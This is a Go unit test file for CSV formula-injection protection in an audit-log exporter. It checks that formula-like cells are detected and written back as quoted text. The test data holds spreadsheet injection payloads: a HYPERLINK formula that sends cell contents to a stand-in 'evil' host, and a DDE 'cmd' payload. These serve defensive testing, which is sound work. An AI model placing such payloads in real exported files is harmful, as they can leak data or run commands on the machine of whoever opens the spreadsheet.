package httpapi

import (
	"bytes"
	"encoding/csv"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/airlock-broker/airlock/internal/audit"
)

func TestCSVFormulaLike(t *testing.T) {
	tests := []struct {
		name string
		in   string
		want bool
	}{
		{"equals", `=HYPERLINK("http://evil/?"&A1,"x")`, true},
		{"plus", "+1+cmd|' /C calc'!A0", true},
		{"minus", "-2+3", true},
		{"at", "@SUM(1+1)", true},
		{"tab", "\t=1", true},
		{"carriage return", "\r=1", true},
		{"line feed", "\n=1", true},
		{"nul", "\x00=1", true},
		{"blanks before equals", "   =1+1", true},
		{"no-break space before at", "\u00a0@SUM(A1)", true},
		{"full-width equals", "\uFF1D1+1", true},
		{"full-width plus", "\uFF0B1", true},
		{"full-width minus", "\uFF0D1", true},
		{"full-width at", "\uFF20SUM(A1)", true},
		{"empty", "", false},
		{"blanks only", "   ", false},
		{"path", "/repos/acme/=x", false},
		{"word", "call.allowed", false},
		{"equals later", "a=b", false},
		{"quote", `"=1"`, false}, // quoted as a whole, the cell starts with a quote character
		{"digits", "42", false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := csvFormulaLike(tt.in); got != tt.want {
				t.Errorf("csvFormulaLike(%q) = %v, want %v", tt.in, got, tt.want)
			}
		})
	}
}

// TestCSVRowNeutralizesEveryTextCell fills every text column with a formula
// and checks each cell reads back as text that starts with a quote (its
// control characters written as \u+XXXX: none reaches a terminal), while
// numeric columns (a negative one too) stay plain numbers.
func TestCSVRowNeutralizesEveryTextCell(t *testing.T) {
	const f = `=HYPERLINK("http://evil.example/?"&A1;"click")`
	e := audit.Event{Seq: 7, Time: time.Date(2025, 1, 2, 3, 4, 5, 6, time.UTC), Type: "@type", Actor: audit.Actor{Kind: "+kind", ID: "-id"},
		RequestID: f, SessionID: "\tses", TaskID: " =task", GrantID: "\rgrt", ActionID: "\nact", TraceID: "=trace", SpanID: "+span", Upstream: "@SUM(1+1)*cmd|' /C calc'!A0",
		Method: "-X", Path: f, Decision: "=allow", Code: "+code", Reason: "@reason, \"quoted\"", Status: 200, LatencyUS: -5,
		BytesIn: 0, BytesOut: 12, PrevHash: "=prev", Hash: "-hash"}
	var buf bytes.Buffer
	enc := newAuditEncoder("csv", &buf)
	if err := enc(nil, &e); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(bytes.NewReader(buf.Bytes())).ReadAll()
	if err != nil {
		t.Fatalf("not CSV: %v\n%s", err, buf.Bytes())
	}
	if diff := cmp.Diff([][]string{csvHeader, {
		"7", "2025-01-02T03:04:05.000000006Z", "'@type", "'+kind", "'-id", "'" + f, `'\u+0009ses`, "' =task", `'\u+000Dgrt`, `'\u+000Aact`, "'=trace", "'+span",
		"'@SUM(1+1)*cmd|' /C calc'!A0", "'-X", "'" + f, "'=allow", "'+code", "'@reason, \"quoted\"",
		"200", "-5", "", "12", "'=prev", "'-hash",
	}}, rows); diff != "" {
		t.Fatalf("CSV rows (-want +got):\n%s", diff)
	}
	// Every non-empty text cell is quoted, so neither ',' nor ';' inside a
	// value can start a cell in any spreadsheet locale.
	line := bytes.SplitN(buf.Bytes(), []byte("\n"), 2)[1]
	if !bytes.HasPrefix(line, []byte(`7,"2025-01-02T03:04:05.000000006Z","'@type","'+kind",`)) {
		t.Fatalf("text cells not quoted: %s", line)
	}
}
